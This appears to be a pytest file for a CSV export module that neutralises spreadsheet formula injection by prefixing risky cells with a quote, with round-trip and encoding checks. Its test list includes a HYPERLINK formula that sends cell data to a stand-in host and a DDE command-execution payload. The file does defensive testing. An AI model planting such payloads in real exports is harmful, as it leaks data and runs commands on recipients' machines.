"""CSV out: text cells that a spreadsheet would run as formulas get a leading quote; numbers stay numbers."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from studio.core.csvout import csv_row, neutralise_cell, restore_cell, starts_like_a_formula, write_csv

HOSTILE = [
    "-50% 限时折扣",  # an ordinary pitch line: Excel would compute it
    '=HYPERLINK("http://evil.example/?d="&A1,"点我领券")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1",
    "+86 138 0000 0000",
    "＝1+1",  # full-width forms: WPS/Excel in Chinese locales, Numbers after NFKC
    "＋1",
    "－50%",
    "＠SUM(A1)",
    "﹦1+1",  # small equals sign, NFKC → "="
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",  # some programs trim before parsing
    "\u3000＝1+1",  # an ideographic space first
]
SAFE = ["第1句：今天只要168元", "", "168", "3.5", "a=b", "小王 =)", "50% off -today"]


@pytest.mark.parametrize("cell", HOSTILE)
def test_formula_like_cells_get_a_leading_quote(cell: str) -> None:
    assert starts_like_a_formula(cell)
    assert neutralise_cell(cell) == "'" + cell
    assert not starts_like_a_formula(neutralise_cell(cell))


@pytest.mark.parametrize("cell", SAFE)
def test_ordinary_cells_are_left_alone(cell: str) -> None:
    assert not starts_like_a_formula(cell)
    assert neutralise_cell(cell) == cell


def test_a_cell_that_starts_with_a_quote_gets_one_more_so_reading_back_is_exact() -> None:
    assert neutralise_cell("'=1") == "''=1"
    assert restore_cell(neutralise_cell("'=1")) == "'=1"
    assert restore_cell(neutralise_cell("'quoted'")) == "'quoted'"


@given(st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=40))
def test_neutralised_cells_never_start_like_a_formula_and_restore_exactly(text: str) -> None:
    cell = neutralise_cell(text)
    assert not starts_like_a_formula(cell)
    assert restore_cell(cell) == text


def test_numeric_columns_stay_numbers_and_text_columns_are_neutralised() -> None:
    fields = ("text", "duration", "count", "note")
    row = {"text": "-50% 限时折扣", "duration": -1.5, "count": 3, "note": None}
    assert csv_row(row, fields, numeric=("duration", "count")) == ["'-50% 限时折扣", "-1.5", "3", ""]
    # A numeric column holding text (or a bool) is treated as text: it is neutralised too.
    assert csv_row({"duration": "=1+1", "count": True}, fields, numeric=("duration", "count")) == [
        "", "'=1+1", "True", ""]


def test_write_csv_round_trips_through_a_real_file(tmp_path: Path) -> None:
    fields = ("user", "text", "seconds")
    rows = [{"user": "=小王", "text": cell, "seconds": float(n)} for n, cell in enumerate(HOSTILE + SAFE)]
    rows.append({"user": "x\ud800y", "text": 'a, "quoted"\nsecond line', "seconds": 0.25})
    out = tmp_path / "out.csv"
    assert write_csv(out, fields, rows, numeric=("seconds",)) == len(rows)
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel and WPS read Chinese CSV right only with a BOM
    read = list(csv.DictReader(out.open(encoding="utf-8-sig", newline="")))
    assert len(read) == len(rows)
    for got, want in zip(read[:-1], rows[:-1], strict=True):
        assert not starts_like_a_formula(got["user"]) and not starts_like_a_formula(got["text"])
        assert restore_cell(got["user"]) == want["user"] and restore_cell(got["text"]) == want["text"]
        assert float(got["seconds"]) == want["seconds"]  # a plain number a spreadsheet can add up
    assert read[0]["text"] == "'-50% 限时折扣" and read[0]["user"] == "'=小王"
    # A lone surrogate cannot be UTF-8: it is written as an escape instead of failing the export.
    assert read[-1]["user"] == "x\\ud800y" and read[-1]["text"] == 'a, "quoted"\nsecond line'
